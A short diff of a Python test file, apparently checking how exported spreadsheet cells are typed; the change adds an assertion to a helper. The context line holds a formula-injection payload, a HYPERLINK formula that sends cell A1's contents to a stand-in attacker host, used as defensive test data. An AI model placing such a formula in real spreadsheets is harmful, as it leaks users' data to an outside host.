@@ -17,6 +17,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 
 def _typed(content: bytes) -> list[list[tuple[object, str]]]:
     sheet = load_workbook(BytesIO(content)).active
+    assert sheet is not None
     return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]
 
 
